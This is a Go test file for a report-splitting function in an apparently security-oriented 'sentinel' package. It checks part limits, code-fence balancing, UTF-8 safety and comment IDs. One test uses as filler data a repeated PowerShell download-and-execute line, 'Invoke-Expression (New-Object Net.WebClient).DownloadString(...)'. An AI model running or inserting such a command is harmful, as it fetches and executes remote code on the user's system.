package sentinel

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestSplit(t *testing.T) {
	for _, tc := range []struct {
		name      string
		text      string
		html      bool
		max, cap  int
		parts     int
		omitted   int
		wantInAll []string
	}{
		{"fits", "short report", false, 100, 100, 1, 0, []string{"short report"}},
		{"exactly the limit", strings.Repeat("a", 200), false, 200, 100, 1, 0, nil},
		{"lines", strings.Repeat("line of text that is forty characters\n", 30), false, 400, 100, 4, 0, []string{"part 1 of 4", "part 4 of 4"}},
		{"one huge line", strings.Repeat("x", 1000), false, 300, 100, 4, 0, nil},
		{"html headers", strings.Repeat("<p>paragraph</p>\n", 40), true, 300, 100, 3, 0, []string{"<p><b>Spotter report, part 1 of 3</b></p>"}},
		{"capped", strings.Repeat("line of text that is forty characters\n", 30), false, 400, 2, 2, 4, []string{"4 more part(s)", "part 2 of 6"}},
		{"multi-byte runes", strings.Repeat("é€😀\n", 200), false, 300, 100, 4, 0, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			parts, omitted := Split(tc.text, tc.html, tc.max, tc.cap)
			if len(parts) != tc.parts || omitted != tc.omitted {
				t.Fatalf("parts %d omitted %d, want %d and %d", len(parts), omitted, tc.parts, tc.omitted)
			}
			for i, p := range parts {
				if n := utf8.RuneCountInString(p); n > tc.max {
					t.Errorf("part %d: %d runes > %d", i+1, n, tc.max)
				}
				if !utf8.ValidString(p) {
					t.Errorf("part %d: invalid UTF-8", i+1)
				}
			}
			all := strings.Join(parts, "")
			for _, s := range tc.wantInAll {
				if !strings.Contains(all, s) {
					t.Errorf("%q missing", s)
				}
			}
		})
	}
}

func TestSplitKeepsCodeFencesBalanced(t *testing.T) {
	text := "intro\n```powershell\n" + strings.Repeat("Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x')\n", 20) + "```\nafter\n"
	parts, _ := Split(text, false, 500, 100)
	if len(parts) < 3 {
		t.Fatalf("parts: %d", len(parts))
	}
	for i, p := range parts {
		if strings.Count(p, "```")%2 != 0 {
			t.Errorf("part %d: unbalanced fence:\n%s", i+1, p)
		}
		if i > 0 && i < len(parts)-1 && !strings.Contains(p, "```powershell\n") {
			t.Errorf("part %d does not reopen the fence with its language", i+1)
		}
	}
}

func TestCommentIDIsStable(t *testing.T) {
	a, b := CommentID("run-1", "details/1"), CommentID("run-1", "details/1")
	if a != b || a == CommentID("run-1", "details/2") || a == CommentID("run-2", "details/1") || !validID(a) {
		t.Errorf("%s %s", a, b)
	}
}

// FuzzSplit checks the splitting invariants on arbitrary text: no part
// over the limit, never more parts than allowed, valid UTF-8 kept valid.
func FuzzSplit(f *testing.F) {
	f.Add("a\nb\nc", 120, 3)
	f.Add("```\ncode\n```\n"+strings.Repeat("z", 500), 150, 100)
	f.Add(strings.Repeat("é", 400), 130, 2)
	f.Fuzz(func(t *testing.T, text string, max, cap int) {
		if max < 120 || max > 5000 || cap < 1 || cap > 100 || len(text) > 20000 {
			return
		}
		parts, omitted := Split(text, false, max, cap)
		if len(parts) > cap || len(parts) == 0 || omitted < 0 {
			t.Fatalf("parts %d omitted %d cap %d", len(parts), omitted, cap)
		}
		for _, p := range parts {
			if utf8.RuneCountInString(p) > max {
				t.Fatalf("part of %d runes > %d", utf8.RuneCountInString(p), max)
			}
			if utf8.ValidString(text) && !utf8.ValidString(p) {
				t.Fatal("split inside a rune")
			}
		}
	})
}
